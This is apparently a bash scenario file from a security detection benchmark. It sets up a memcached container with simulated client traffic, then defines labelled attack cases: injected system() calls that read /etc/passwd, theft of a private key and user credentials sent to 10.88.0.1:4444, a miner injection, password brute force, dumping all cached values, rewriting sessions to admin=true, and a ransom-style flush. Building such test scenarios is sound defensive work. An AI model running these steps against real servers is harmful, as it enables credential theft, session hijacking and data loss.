# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# memcached as the cache of an application: sessions, pages, counters. Its clients log in, some of them
# by TLS.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
# shellcheck source=bench/dataset/databases.bash
. "${here:?}/databases.bash"

set=test containers=(memcached) port=11211 data_directory=/etc/memcached
configuration_file=/etc/memcached/users configuration_comment='reader:other'
health=(/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/11211 &&
	printf "set login 0 0 10\r\napp secret\r\nversion\r\nquit\r\n" >&3 &&
	grep -q VERSION <&3')
image_packages=(memcached bash coreutils findutils grep gzip dash base-files libc-bin tzdata hostname)
rare_own=(memory_limit all_flushed watcher verbose crawl_keys too_many_clients user_added
	big_burst certificate)
rare_not=(worker_killed)

image_prepare() {
	local tree=$1
	echo memcache:x:101:101::/nonexistent:/bin/false >>"$tree/etc/passwd"
	echo memcache:x:101: >>"$tree/etc/group"
	mkdir -p "$tree"/etc/memcached/tls "$tree/etc/ssl/private"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
		-keyout "$tree/etc/memcached/tls/key.pem" -out "$tree/etc/memcached/tls/cert.pem" 2>/dev/null
	printf '%s\n' app:secret admin:secret >"$tree/etc/memcached/users"
	printf '%s\n' '-----BEGIN PRIVATE KEY-----' 'bm90IGEga2V5' >"$tree/etc/ssl/private/backup.key"
	chown root:101 "$tree"/etc/{memcached/users,memcached/tls/key.pem,ssl/private/backup.key}
	chmod 640 "$tree"/etc/{memcached/users,memcached/tls/key.pem,ssl/private/backup.key}
	chmod 711 "$tree/etc/ssl/private"
}

# It is started as root, and becomes memcache.
container_fields() {
	local tls=/etc/memcached/tls
	arguments=(/usr/bin/memcached -m 8 -u memcache -l notls:0.0.0.0:11211 -l 0.0.0.0:11212
		-P /run/memcached.pid -c 256 -t 4 -v -Y /etc/memcached/users -Z
		-o "ssl_chain_cert=$tls/cert.pem,ssl_key=$tls/key.pem")
}

peers() {
	:
}

# cache_ask [USER [tls]]: sends the commands of stdin as that user, prints the answers.
cache_ask() {
	local name=${1:-app} to=TCP:$own_address:$port
	[ "${2:-}" != tls ] || to=OPENSSL:$own_address:11212,verify=0
	{
		printf 'set login 0 0 %d\r\n%s secret\r\n' $((${#name} + 7)) "$name"
		cat
		printf 'quit\r\n'
	} | client_stdin socat -t 5 - "$to"
}

# cache_command COMMAND…: each word is a line.
cache_command() {
	printf '%s\r\n' "$@" | cache_ask admin
}

# cache_stream COMMAND SECONDS: one that answers for a while. It must not be sent at once with others.
cache_stream() {
	{
		printf 'set login 0 0 12\r\nadmin secret\r\n'
		sleep 1
		printf '%s\r\n' "$1"
		sleep "$2"
		printf 'quit\r\n'
	} | client_stdin socat -t 5 - "TCP:$own_address:$port"
}

# put KEY BYTES [SECONDS]: prints the command.
put() {
	filler "$2"
	printf 'set %s 0 %d %d\r\n%s\r\n' "$1" "${3:-0}" "$2" "$filler_value"
}

# Its first client fills it with sessions and pages.
ready() {
	cache_command version | grep -q VERSION || return
	[ -z "$is_warm" ] || return 0
	generated 1 warm_work | cache_ask >/dev/null
	is_warm=1
}

is_warm=''

warm_work() {
	local i
	for ((i = 0; i < 400; i++)); do
		put "page:$i" $((RANDOM % 30000 + 1000))
		put "session:$i" $((RANDOM % 900 + 50)) 600
	done
}

# An application's look for a session, and what it does with it.
session_work() {
	local i n
	for ((i = 0; i < $1; i++)); do
		n=$((RANDOM % 400))
		printf 'get session:%d user:%d\r\n' "$n" $((n % 90))
		likely 60 || put "session:$n" $((RANDOM % 900 + 50)) 600
		likely 85 || put "user:$((n % 90))" $((RANDOM % 300 + 10))
		likely 95 || printf 'delete session:%d\r\n' "$n"
	done
}

page_work() {
	local i
	for ((i = 0; i < $1; i++)); do
		likely 40 && put "page:$((RANDOM % 400))" $((RANDOM % 30000 + 1000)) $((RANDOM % 60 + 2))
		printf 'get page:%d\r\n' $((RANDOM % 400))
	done
}

counter_work() {
	local i
	printf 'add hits 0 0 1\r\n0\r\nadd limit:%d 0 30 1\r\n1\r\n' $((RANDOM % 20))
	for ((i = 0; i < $1; i++)); do
		printf 'incr hits 1\r\nincr limit:%d 1\r\ndecr limit:%d 1\r\n' $((RANDOM % 20)) $((RANDOM % 20))
	done
}

meta_work() {
	local i n
	for ((i = 0; i < $1; i++)); do
		n=$((RANDOM % 200))
		printf 'ms item:%d 8 T300\r\n%08d\r\n' "$n" "$n"
		printf 'mg item:%d t f v\r\nmg item:%d N30 v\r\n' "$n" $((n + 1))
		likely 80 || printf 'md item:%d\r\n' "$n"
	done
	printf 'mn\r\n'
}

other_work() {
	put news 100
	printf 'append news 0 0 4\r\nmore\r\nprepend news 0 0 4\r\nless\r\nreplace news 0 9 3\r\nnew\r\n'
	printf 'gets news\r\ncas news 0 0 3 1\r\nold\r\ntouch news 60\r\ngat 60 news page:1\r\nget %s\r\n' \
		"$(printf 'session:%d ' {1..60})"
}

large_work() {
	put "large:$((RANDOM % 6))" $((RANDOM % 300000 + 20000)) 60
	printf 'get large:%d\r\n' {0..5}
}

# client_work: of one client, with pauses.
client_work() {
	session_work 10
	sleep 0.$((RANDOM % 9))
	page_work 3
	sleep 0.$((RANDOM % 9))
	session_work 10
}

# several_clients N NUMBER: at once.
several_clients() {
	local i pids=()
	for ((i = 0; i < $1; i++)); do
		generated $(($2 + i)) client_work | cache_ask >/dev/null &
		pids+=($!)
	done
	wait "${pids[@]}" || true
}

# wrong_login PASSWORD: and what the server says.
wrong_login() {
	printf 'set login 0 0 %d\r\napp %s\r\nget hits\r\n' $((${#1} + 4)) "$1" |
		client_stdin socat -t 1 - "TCP:$own_address:$port"
}

request() {
	local number=$RANDOM n=$((RANDOM % 56 + 5))
	case $((RANDOM % 12)) in
	0 | 1) generated "$number" session_work $((n * 3)) | cache_ask ;;
	2) generated "$number" page_work "$n" | cache_ask ;;
	3) generated "$number" counter_work "$n" | cache_ask ;;
	4) generated "$number" meta_work "$n" | cache_ask app tls ;;
	5) generated "$number" other_work | cache_ask app "$(pick tls plain)" ;;
	6) generated "$number" large_work | cache_ask ;;
	7 | 8) several_clients $((n % 5 + 2)) "$number" ;;
	9) cache_command stats 'stats items' 'stats slabs' 'stats settings' 'stats conns' ;;
	10) wrong_login wrong ;;
	11) generated "$number" session_work $((n * 2)) | cache_ask app tls ;;
	esac >/dev/null
}

# The list of users is read again.
reload_service() {
	container_signal memcached HUP
}

administer() {
	cache_command stats 'stats reset' 'slabs automove 1' 'lru tune 10 25 0.1 2.0'
	cache_stream 'lru_crawler metadump all' 2
	cache_command 'stats sizes' refresh_certs
	reload_service
}

rare_memory_limit() {
	cache_command 'cache_memlimit 32' 'slabs automove 2'
	page_work 200 | cache_ask
	sleep 5
	cache_command 'cache_memlimit 8' 'slabs automove 1'
}

rare_all_flushed() {
	cache_command 'flush_all noreply' 'lru_crawler crawl all'
	sleep 3
	cache_command 'lru_crawler disable' 'lru_crawler enable'
}

# Somebody looks at what happens.
rare_watcher() {
	cache_stream 'watch fetchers mutations evictions connevents' 8 | tail -c 300
}

rare_verbose() {
	cache_command 'verbosity 3'
	sleep 3
	cache_command 'verbosity 1'
}

rare_crawl_keys() {
	cache_stream 'lru_crawler mgdump all' 2 | tail -n 3
	cache_command 'stats sizes' 'stats cachedump 5 100' 'slabs reassign 5 9'
}

rare_too_many_clients() {
	local i pids=()
	for i in {1..280}; do
		in_network timeout 6 bash -c "exec 3<>/dev/tcp/$own_address/$port; sleep 5" &
		pids+=($!)
	done
	wait "${pids[@]}" || true
}

rare_user_added() {
	keep_file memcached /etc/memcached/users
	undo reload_service
	echo new:secret >>"$(image_path memcached /etc/memcached/users)"
	reload_service
	sleep 1
	session_work 5 | cache_ask new
}

rare_big_burst() {
	local i
	for i in 1 2 3; do
		several_clients 12 "$i"
		large_work | cache_ask
	done
}

rare_certificate() {
	local file
	lasts
	file=$(image_path memcached /etc/memcached/tls/cert.pem)
	cp -p "$file" "$file.new"
	mv "$file.new" "$file"
	cache_command refresh_certs
	printf 'version\r\n' | cache_ask app tls
}

# ---- attacks: an overflow gave the attacker code inside the process ----

attack_code_shell() {
	harm exec '*/dash'
	inject memcached /usr/bin/memcached 'print (int) system("id >/tmp/out; cat /etc/passwd >>/tmp/out")'
	session memcached /bin/grep uid=101 /tmp/out
}

attack_code_secret() {
	harm open /etc/ssl/private/backup.key
	thief_begin
	code_steal memcached /usr/bin/memcached /etc/ssl/private/backup.key
	thief_got PRIVATE
}

# What the process read when it started, and now sends away.
attack_code_connect() {
	harm connect '10.88.0.1:4444'
	thief_begin
	code_steal memcached /usr/bin/memcached /etc/memcached/users
	thief_got admin:secret
}

attack_code_machine() {
	harm call mprotect
	code_machine memcached /usr/bin/memcached | tee "$stage/answer" | grep '= 42'
}

attack_miner() {
	mining_begin /tmp/.cache
	inject memcached /usr/bin/memcached "print (int) system(\"$mining_command\")"
	pool_got
}

attack_brute_force() {
	local i
	harm call accept4
	for i in {1..80} secret; do
		wrong_login "$i"
	done | tail -n 5 | grep STORED
}

# ---- adaptive: by commands that clients use ----

# all_keys: of the cache, as its administrators list them.
all_keys() {
	cache_stream 'lru_crawler metadump all' 2 | sed -n 's/%3A/:/; s/^key=\([^ ]*\) .*/\1/p'
}

# Every value of the cache is read.
adaptive_dump() {
	harm call sendmsg
	all_keys >"$stage/keys"
	sed 's/.*/get &\r/' "$stage/keys" | cache_ask | grep -ac ^VALUE >"$stage/answer"
	[ "$(cat "$stage/answer")" -gt 20 ]
}

# Every session becomes one of the attacker's.
adaptive_tamper() {
	harm call read
	all_keys | sed -n 's/^session.*/set & 0 0 10\r\nadmin=true\r/p' | cache_ask | grep -c STORED
	printf 'get session:%d\r\n' {0..399} | cache_ask | grep -ac admin=true
}

# Everything is gone, and a note says what to pay.
adaptive_ransom() {
	harm call read
	cache_command flush_all
	sleep 2
	until_true 20 note_stands_alone
}

note_stands_alone() {
	put README 20 | cache_ask
	[ "$(all_keys)" = README ]
}
